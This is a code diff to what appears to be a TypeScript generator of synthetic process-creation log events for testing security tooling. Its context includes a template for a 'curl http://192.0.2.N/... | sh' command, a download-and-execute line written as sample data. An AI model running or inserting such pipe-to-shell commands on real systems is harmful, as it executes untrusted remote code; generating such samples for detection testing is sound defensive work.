@@ -35,7 +35,7 @@ const TEXTS: readonly ((number: number) => string)[] = [
   (number) => `curl http://192.0.2.${String(number % 250)}/a?b=${String(number)} | sh`,
 ];
 
-/** Everyday commands that behaviours of much text are about; each list has no factor in common with the kinds below. */
+/** Everyday commands that behaviours of much text are about. */
 const LINUX_COMMANDS = [
   "systemctl restart rsyslog",
   "service auditd status",
@@ -66,6 +66,11 @@ const WINDOWS_COMMANDS = [
   "taskkill /im notepad.exe",
   "msiexec /i C:\\Temp\\a.msi /quiet",
 ];
+
+/** One after the other, and then none for a few turns. */
+function turnOf(commands: readonly string[], number: number): string | undefined {
+  return commands[Math.floor(number / MADE.length) % (commands.length + 3)];
+}
 
 function addressOf(number: number): string {
   if (number % 3 === 0) return `fe80:0:0:0:0:0:0:${number.toString(16)}`;
@@ -117,10 +122,9 @@ const MADE: readonly ((number: number, text: Text) => object)[] = [
     event_type: "winsec",
     win_event_id: 1,
     channel: SYSMON,
-    exe: "C:\\Windows\\System32\\where.exe",
+    exe: "C:\\Windows\\System32\\sc.exe",
     user: "NT AUTHORITY\\SYSTEM",
-    command:
-      number % 3 === 0 ? `where ${text(0)}` : WINDOWS_COMMANDS[number % WINDOWS_COMMANDS.length],
+    arguments: turnOf(WINDOWS_COMMANDS, number) ?? `where ${text(0)}`,
     pid: String(number),
     message: `Process Create:\r\nProcessId: ${String(number)}\r\nParentImage: C:\\Windows\\System32\\cmd.exe`,
     host_metadata: { hostname: "rehearsal" },
